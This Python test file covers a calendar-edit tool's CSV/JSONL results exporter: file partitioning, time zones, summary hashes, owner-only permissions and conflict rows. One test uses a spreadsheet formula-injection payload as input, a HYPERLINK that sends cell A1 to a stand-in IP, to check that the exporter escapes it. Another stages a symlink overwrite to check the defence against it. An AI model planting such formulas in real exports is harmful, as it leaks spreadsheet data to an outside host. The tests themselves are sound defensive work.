"""Results files: every line in exactly one of them, whole or not at all."""

from __future__ import annotations

import csv
import hashlib
import json
import stat
from dataclasses import replace
from pathlib import Path

import pytest
from msgspec.structs import replace as replace_image

from tests.builders import all_day, an_image, timed
from tests.unit.report.campaigns import (
    COLUMNS,
    ONE_OF_EACH,
    PARIS,
    End,
    a_campaign,
    a_limiter,
    a_look,
    a_store,
    uid,
)
from tests.unit.report.outcomes import an_outcome
from worker.errors import SettingsError
from worker.model import CODE_HELP, Code, EditState
from worker.report import (
    FILES,
    RESULT_COLUMNS,
    InvariantError,
    asks_something,
    file_of,
    restored,
    write_results,
)
from worker.report.results import result_cells
from worker.store import Store


@pytest.fixture
def store(tmp_path: Path) -> Store:
    """A migrated store."""
    return a_store(tmp_path / "calpatch.db")


def read(path: Path) -> list[dict[str, str]]:
    """Return a file's rows by column."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_each_state_belongs_into_one_file() -> None:
    """A state that was forgotten would lose its lines."""
    assert {file_of(state, "") for state in EditState} == {*FILES, "open"}


def test_accepted_without_proof_succeeds_where_no_proof_was_asked() -> None:
    """Who asks for no verification would else find every edit in failed.csv."""
    assert file_of(EditState.UNVERIFIED, Code.NO_PROOF_ASKED) == "succeeded"
    assert file_of(EditState.UNVERIFIED, Code.NOT_READ_BACK) == "failed"


def test_every_line_is_in_exactly_one_file(store: Store, tmp_path: Path) -> None:
    """Law 2: nobody can prove anything about a line that is in no file, or in two."""
    campaign = a_campaign(store, ONE_OF_EACH)
    write_results(store, a_look(store, campaign), folder=tmp_path / "out")
    lines = {name: [row["line_no"] for row in read(tmp_path / f"out/{name}.csv")] for name in FILES}
    assert lines == {
        "succeeded": ["2", "3"],
        "skipped": ["4"],
        "failed": ["5", "6", "7", "8"],
        "not_attempted": ["9"],
    }


def test_the_input_comes_first_and_then_our_columns(store: Store, tmp_path: Path) -> None:
    """Programs find their own columns where they put them."""
    campaign = a_campaign(store, [End(state=EditState.FAILED, code=Code.UPSTREAM, ref="crm-991")])
    write_results(store, a_look(store, campaign), folder=tmp_path)
    header, *rows = (tmp_path / "failed.csv").read_text().splitlines()
    assert tuple(header.split(",")) == COLUMNS + RESULT_COLUMNS
    assert rows[0].startswith(f"acc_1,cal_1,{uid(2)},PT1H,,crm-991,2,c_1:2,failed,upstream,")


def test_a_row_tells_times_in_the_events_zone(store: Store, tmp_path: Path) -> None:
    """People compare with what their calendar shows, not with UTC."""
    campaign = a_campaign(store, [End(state=EditState.VERIFIED, code=Code.VERIFIED)])
    write_results(store, a_look(store, campaign), folder=tmp_path)
    (row,) = read(tmp_path / "succeeded.csv")
    assert row["before_start"] == "2026-06-02T09:00:00+02:00"
    assert row["after_end"] == "2026-06-02T11:00:00+02:00"
    assert (row["event_tzid"], row["changed_fields"], row["attempts"]) == (PARIS, "start,end", "1")
    assert row["message"] == CODE_HELP[Code.VERIFIED]
    assert row["accepted_at"].endswith("Z")
    assert row["verified_at"].endswith("Z")


def test_whole_days_are_dates_without_a_zone(store: Store, tmp_path: Path) -> None:
    """A holiday has no time of day, and none may be made up."""
    before, target = an_image(all_day("2026-06-02")), an_image(all_day("2026-06-03"))
    campaign = a_campaign(store, [End(state=EditState.VERIFIED, before=before, target=target)])
    write_results(store, a_look(store, campaign), folder=tmp_path)
    (row,) = read(tmp_path / "succeeded.csv")
    assert (row["before_start"], row["after_start"], row["after_end"]) == (
        "2026-06-02", "2026-06-03", "2026-06-04",
    )  # fmt: skip
    assert row["event_tzid"] == ""


def test_what_was_not_taken_has_no_after(store: Store, tmp_path: Path) -> None:
    """A time in the column "after" of a failed edit would be read as done."""
    campaign = a_campaign(store, [End(state=EditState.FAILED, code=Code.REJECTED)])
    write_results(store, a_look(store, campaign), folder=tmp_path)
    (row,) = read(tmp_path / "failed.csv")
    assert row["before_start"]
    assert row["after_start"] == row["after_end"] == ""


@pytest.mark.row(31)
def test_formulas_are_guarded_and_come_back(store: Store, tmp_path: Path) -> None:
    """C17: what a spreadsheet would run, in any input column; the shift stays a shift."""
    title = '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")'
    end = End(state=EditState.FAILED, code=Code.UPSTREAM, shift="-P1D", summary=title, ref="@x")
    campaign = a_campaign(store, [end])
    write_results(store, a_look(store, campaign), folder=tmp_path)
    (row,) = read(tmp_path / "failed.csv")
    assert (row["shift"], row["summary"], row["ref"]) == ("-P1D", f"'{title}", "'@x")
    assert [restored(row[name]) for name in ("shift", "summary", "ref")] == ["-P1D", title, "@x"]


def test_commas_quotes_and_line_ends_survive(store: Store, tmp_path: Path) -> None:
    """The echo is the input's cell, character by character."""
    text = 'a "quoted", cell\nof two lines'
    campaign = a_campaign(store, [End(state=EditState.SKIPPED, code=Code.DELETED, ref=text)])
    write_results(store, a_look(store, campaign), folder=tmp_path)
    assert read(tmp_path / "skipped.csv")[0]["ref"] == text


@pytest.mark.row(31)
def test_a_jsonl_input_gives_its_lines_back(store: Store, tmp_path: Path) -> None:
    """A pipeline submits failed.jsonl again without knowing of CSV."""
    line = '{"account":"acc_1","calendar_id":"cal_1","event_uid":"e","shift":"-P1D"}'
    ends = [End(state=EditState.FAILED, code=Code.UPSTREAM), End(state=EditState.VERIFIED)]
    campaign = a_campaign(store, ends, columns=["line"], cells=[[line], ["{}"]])
    write_results(store, a_look(store, campaign), folder=tmp_path)
    assert (tmp_path / "failed.jsonl").read_text() == f"{line}\n"
    assert read(tmp_path / "failed.csv")[0]["line"] == line
    assert not (tmp_path / "succeeded.jsonl").exists()


def test_the_summary_adds_up_and_names_every_file(store: Store, tmp_path: Path) -> None:
    """Whoever keeps the files can tell later whether they are the ones that were written."""
    campaign = a_campaign(store, ONE_OF_EACH)
    look = a_look(store, campaign, limiter=a_limiter())
    write_results(store, look, folder=tmp_path)
    summary = json.loads((tmp_path / "summary.json").read_text())
    assert summary["counts"]["total"] == sum(summary["counts"]["by_status"].values()) == 8
    assert sum(each["rows"] for each in summary["files"]) == 8
    for each in summary["files"]:
        data = (tmp_path / each["name"]).read_bytes()
        assert (hashlib.sha256(data).hexdigest(), len(data)) == (each["sha256"], each["bytes"])
    assert summary["api_calls"]["by_route"] == {"batch": 2, "read": 2}
    assert (summary["owner"], summary["reason"]) == ("somebody", "New office hours")
    assert summary["is_partial"] is False
    assert summary["limiter"]["windows"][1]["granted"] == 350


def test_a_running_campaign_gives_what_there_is(store: Store, tmp_path: Path) -> None:
    """Whoever cannot wait gets partial files that say so."""
    ends = [
        End(state=EditState.VERIFIED),
        End(state=EditState.ACCEPTED),
        End(state=EditState.PENDING),
    ]
    campaign = a_campaign(store, ends)
    summary = write_results(store, a_look(store, campaign), folder=tmp_path)
    assert summary.is_partial
    assert [row["status"] for row in read(tmp_path / "open.csv")] == ["accepted", "pending"]


def test_a_later_export_removes_what_is_no_longer_true(store: Store, tmp_path: Path) -> None:
    """An open.csv of yesterday beside today's results would tell of edits that are done."""
    (tmp_path / "open.csv").write_text("old")
    (tmp_path / "notes.txt").write_text("mine")
    campaign = a_campaign(store, [End(state=EditState.VERIFIED)])
    write_results(store, a_look(store, campaign), folder=tmp_path)
    assert not (tmp_path / "open.csv").exists()
    assert (tmp_path / "notes.txt").read_text() == "mine"


def test_only_some_files_can_be_asked_for(store: Store, tmp_path: Path) -> None:
    """The rest stays as it is; the counts are of the whole campaign all the same."""
    campaign = a_campaign(store, ONE_OF_EACH)
    summary = write_results(store, a_look(store, campaign), folder=tmp_path, only=["failed"])
    assert sorted(path.name for path in tmp_path.glob("*.csv")) == ["failed.csv"]
    assert (summary.only, summary.counts.total) == (("failed",), 8)


def test_files_are_for_their_owner_only(store: Store, tmp_path: Path) -> None:
    """They hold event text; other users of the machine have no business with it (C21)."""
    campaign = a_campaign(store, ONE_OF_EACH)
    write_results(store, a_look(store, campaign), folder=tmp_path / "out")
    modes = {stat.S_IMODE(path.stat().st_mode) for path in (tmp_path / "out").iterdir()}
    assert modes == {0o600}
    assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o700


def test_outcomes_that_do_not_add_up_write_nothing(store: Store, tmp_path: Path) -> None:
    """Better no report than one that hides a lost line; what lay there stays as it was."""
    campaign = a_campaign(store, ONE_OF_EACH)
    look = a_look(store, campaign, campaign=replace(campaign, total=9))
    (tmp_path / "out").mkdir()
    (tmp_path / "out/failed.csv").write_text("yesterday's")
    with pytest.raises(InvariantError, match="do not add up: 9 lines submitted, 8 with one"):
        write_results(store, look, folder=tmp_path / "out")
    assert [path.name for path in (tmp_path / "out").iterdir()] == ["failed.csv"]
    assert (tmp_path / "out/failed.csv").read_text() == "yesterday's"
    assert InvariantError.exit_code == 1


def test_counts_that_changed_meanwhile_are_noticed(store: Store, tmp_path: Path) -> None:
    """An ended campaign does not change; if its rows do, somebody has been at them."""
    campaign = a_campaign(store, ONE_OF_EACH)
    other = {(EditState.VERIFIED, "verified"): 8}
    with pytest.raises(InvariantError):
        write_results(store, a_look(store, campaign, counts=other), folder=tmp_path / "out")


def test_a_link_in_the_folder_is_replaced_not_followed(store: Store, tmp_path: Path) -> None:
    """Somebody could have put a link there to have another file overwritten (C21)."""
    victim = tmp_path / "victim"
    victim.write_text("precious")
    (tmp_path / "out").mkdir()
    (tmp_path / "out/failed.csv").symlink_to(victim)
    campaign = a_campaign(store, ONE_OF_EACH)
    write_results(store, a_look(store, campaign), folder=tmp_path / "out")
    assert victim.read_text() == "precious"
    assert not (tmp_path / "out/failed.csv").is_symlink()


@pytest.mark.row(27)
def test_a_folder_that_cannot_be_written_is_said_in_one_line(store: Store, tmp_path: Path) -> None:
    """No stack trace for a mistyped path."""
    (tmp_path / "file").write_text("")
    campaign = a_campaign(store, [End(state=EditState.VERIFIED)])
    with pytest.raises(SettingsError, match="cannot be written to"):
        write_results(store, a_look(store, campaign), folder=tmp_path / "file" / "out")


def test_the_builders_reach_every_final_state(store: Store) -> None:
    """The other tests lean on it: a campaign with one edit of each state has ended."""
    campaign = a_campaign(store, ONE_OF_EACH)
    assert str(campaign.state) == "completed_with_errors"
    assert len(a_look(store, campaign).by_state) == 8


# ------------------------------------------------------------------- conflicts


def three_values() -> dict[str, str]:
    """Return the row of a conflict about time and title."""
    before = an_image(timed("2026-06-02T07:00", tzid=PARIS))
    target = replace_image(before, when=timed("2026-06-02T08:00", tzid=PARIS), summary="=Ours()")
    seen = replace_image(
        before, when=timed("2026-06-02T10:00", tzid=PARIS), summary="Theirs", location="Elsewhere"
    )
    outcome = an_outcome(
        before, target, seen=seen, state=EditState.CONFLICT, code=Code.CHANGED_ELSEWHERE
    )
    return dict(zip(RESULT_COLUMNS, map(str, result_cells(outcome, ())), strict=True))


def test_a_conflict_carries_its_three_values() -> None:
    """What it was, what it should become, what it is now: in failed.csv, where people decide."""
    row = three_values()
    assert (row["before_start"], row["planned_start"], row["seen_start"]) == (
        "2026-06-02T09:00:00+02:00", "2026-06-02T10:00:00+02:00", "2026-06-02T12:00:00+02:00",
    )  # fmt: skip
    assert row["after_start"] == ""
    assert row["seen_fields"] == "start,end,summary,location"
    disputed = json.loads(row["conflict"])
    assert {*disputed} == {"start", "end", "summary"}
    assert disputed["summary"] == {"before": "Planning", "planned": "=Ours()", "seen": "Theirs"}
    assert disputed["end"]["seen"] == "2026-06-02T13:00:00+02:00"


def test_other_outcomes_are_no_conflicts() -> None:
    """What a plan has seen of an event that it leaves alone is no dispute."""
    outcome = an_outcome(state=EditState.SKIPPED, code=Code.RECURRING, seen=an_image())
    row = dict(zip(RESULT_COLUMNS, result_cells(outcome, ()), strict=True))
    assert row["seen_start"]
    assert (row["planned_start"], row["seen_fields"], row["conflict"]) == ("", "", "")
    agreed = an_outcome(an_image(), an_image(), seen=an_image(), state=EditState.CONFLICT)
    assert [*result_cells(agreed, ())][-1] == ""


@pytest.mark.parametrize(
    ("columns", "asks"),
    [
        (COLUMNS, True), (("line",), True), (("account", "calendar_id", "event_uid", "ref"), False),
        (("account", "calendar_id", "event_uid", "date_hint", "ref", "x_mine"), False),
    ],
)  # fmt: skip
def test_rows_that_only_name_events_are_no_input(columns: tuple[str, ...], asks: bool) -> None:
    """Those of a campaign file: it is the file that asks."""
    assert asks_something(columns) is asks
